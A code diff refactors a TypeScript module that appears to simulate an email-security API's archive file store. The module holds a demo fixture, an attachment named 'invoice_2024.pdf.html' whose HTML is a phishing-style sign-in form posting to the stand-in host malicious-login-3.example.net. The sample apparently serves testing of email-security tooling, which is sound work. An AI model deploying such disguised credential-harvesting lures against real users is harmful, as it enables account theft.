@@ -3,7 +3,7 @@
  * links on a separate download host, fetched without the token (mimecast-api.md §8); a failure is
  * the JSON envelope. fileResponse (the 1.0 file stream) stays for the gateway route.
  */
-import { defineRoutes, type SimContext } from '../types.js';
+import { defineRoutes, defineState, type SimContext } from '../types.js';
 
 export interface SimFile {
   name: string;
@@ -14,22 +14,20 @@ export interface SimFile {
 export const DEMO_ATTACHMENT_ID =
   'eNpNj91Og0AQhd9lr0tc2kVoEy8KqZZKWyqtBWJCYJkASZdt9gclxncX1Kg3k0nO-WbOeUcSqBbQlGiBknq3c1ebrSMsFaqlP3vYhyzGqooePVmSNAlL_4m93DTJ_bpbR0G_6VMRPydvhyJKJJzSgLsYfE93_GztHY--FrSmq4bO4iPn7CyuQIutDAPa-ndoghhImVcQqVxpeeyvMGTIBa2bDso_-aBBgz_ka_XlMkGKtb871VJxBoLycmS9U-SaSxNPye2AdyBkw1u0MAeoHQ3f0M-Hr8ZVRg3ItCywmREn60riGHb27042HaaJB3lqjT4FghEDY9sgNplbc4LRxye-SWmI';
 
-export function archiveFiles(sim: SimContext): Map<string, SimFile> {
-  return sim.store(
-    'archive.files',
-    () =>
-      new Map([
-        [
-          DEMO_ATTACHMENT_ID,
-          {
-            name: 'invoice_2024.pdf.html',
-            contentType: 'application/octet-stream',
-            content: Buffer.from('<html><body><form action="http://malicious-login-3.example.net/verify">Sign in to view your invoice</form></body></html>\n'),
-          },
-        ],
-      ]),
-  );
-}
+export const archiveFiles = defineState(
+  'archive.files',
+  (): Map<string, SimFile> =>
+    new Map([
+      [
+        DEMO_ATTACHMENT_ID,
+        {
+          name: 'invoice_2024.pdf.html',
+          contentType: 'application/octet-stream',
+          content: Buffer.from('<html><body><form action="http://malicious-login-3.example.net/verify">Sign in to view your invoice</form></body></html>\n'),
+        },
+      ],
+    ]),
+);
 
 export function fileResponse(sim: SimContext, files: Map<string, SimFile>, item: Record<string, unknown>) {
   const f = files.get(String(item.id ?? ''));
